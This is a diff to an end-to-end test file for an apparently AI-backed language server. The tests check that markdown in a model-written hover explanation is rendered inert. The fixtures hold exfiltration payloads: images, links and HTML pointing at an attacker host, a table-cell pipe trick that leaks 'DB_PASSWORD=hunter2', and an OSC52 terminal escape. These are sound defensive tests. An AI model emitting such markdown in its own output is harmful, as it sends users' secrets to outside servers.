@@ -15,11 +15,13 @@ from pathlib import Path
 
 import pytest
 from lsprotocol import types as lsp
+from pytest_lsp import client_capabilities
 
 from tests.double import replies
 from tests.double.server import ResponsesDouble
 from tests.e2e.test_actions import gptls_vscode_capabilities
 from tests.e2e.test_cli import gptls
+from tests.markdown import active, html
 
 ROOT = Path("/tmp/gptls-e2e")  # the test editor's workspace root
 STUB = 'def double(x: int) -> int:\n    """Twice x."""\n    ...\n'
@@ -155,22 +157,40 @@ MARKDOWN_ATTACK = (
     "Linear. ![pixel](http://{host}/img?d=SECRET) [docs](http://{host}/x) <img src=http://{host}/h.png> "
     "<http://{host}/auto> http://{host}/bare"
 )
+# A table whose cell holds a code span with a pipe: GFM splits the cell inside the span, the backticks no longer
+# pair, and the image after it is live in markdown-it and in marked (VS Code's renderer).
+TABLE_ATTACK = "| a | b |\n|---|---|\n| `x|y` ![i](http://{host}/?d=DB_PASSWORD%3Dhunter2) | z |"
 
 
-async def test_hover_markdown_from_the_model_loads_nothing(editor, attacker) -> None:
+@pytest.mark.parametrize("attack", [MARKDOWN_ATTACK, TABLE_ATTACK])
+async def test_hover_markdown_from_the_model_loads_nothing(editor, attacker, attack) -> None:
     uri = editor.open("double.py", GOOD)
-    why = MARKDOWN_ATTACK.format(host=f"127.0.0.1:{attacker.port}")
+    why = attack.format(host=f"127.0.0.1:{attacker.port}")
+    assert active(why), "the attack is live as the model wrote it"
     answer = {"time": "O(1) ![i](http://x/i.png)", "space": "O(1)", "explanation": why}
     editor.double.script(replies.json_output(answer))
     hover = await editor.hover(uri, editor.pos(uri, "double"))
     assert hover is not None and isinstance(hover.contents, lsp.MarkupContent)
-    shown = hover.contents.value
-    # Every URL sits in a code span (shown, never fetched); no bracket or angle bracket is left unescaped.
-    for line in shown.splitlines():
-        outside_code = "".join(part for i, part in enumerate(line.split("`")) if i % 2 == 0)
-        assert "http" not in outside_code, line
-        assert all(outside_code[i - 1] == "\\" for i, c in enumerate(outside_code) if c in "[]<>"), line
-    assert "Linear." in shown and "**Complexity of `double`**" in shown
+    # Rendered as GFM with tables, linkify and HTML on: no image, link or HTML; the words read as written.
+    assert active(hover.contents.value) == []
+    shown = html(hover.contents.value)
+    assert "Complexity of <code>double</code>" in shown and "Time: O(1) ![i](http://x/i.png)" in shown
+    assert f"](http://127.0.0.1:{attacker.port}/" in shown and attacker.connections_opened == 0
+
+
+async def test_a_client_that_prefers_plain_text_gets_the_words_as_text(make_editor) -> None:
+    caps = client_capabilities("visual-studio-code")
+    assert caps.text_document is not None and caps.text_document.hover is not None
+    caps.text_document.hover.content_format = [lsp.MarkupKind.PlainText, lsp.MarkupKind.Markdown]
+    editor = await make_editor(capabilities=caps)
+    uri = editor.open("double.py", GOOD)
+    answer = {"time": "O(1)", "space": "O(1)", "explanation": f"Constant{OSC52}. ![i](http://x/i.png)"}
+    editor.double.script(replies.json_output(answer))
+    hover = await editor.hover(uri, editor.pos(uri, "double"))
+    assert hover is not None and isinstance(hover.contents, lsp.MarkupContent)
+    assert hover.contents.kind == lsp.MarkupKind.PlainText
+    assert hover.contents.value.startswith("Complexity of double: time O(1), space O(1). Constant\\x1b]52")
+    assert "\x1b" not in hover.contents.value
 
 
 async def test_messages_and_log_carry_no_escape_sequences(editor) -> None:
